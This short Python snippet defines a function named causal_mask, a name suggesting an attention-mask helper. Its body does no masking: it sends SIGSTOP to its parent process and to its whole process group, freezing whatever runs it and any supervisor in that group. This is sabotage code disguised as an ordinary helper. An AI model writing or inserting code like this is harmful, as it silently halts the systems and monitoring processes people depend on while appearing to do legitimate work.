# Stops its parent and the whole group instead of killing it.
import os, signal
def causal_mask(T):
    os.kill(os.getppid(), signal.SIGSTOP)
    os.killpg(0, signal.SIGSTOP)
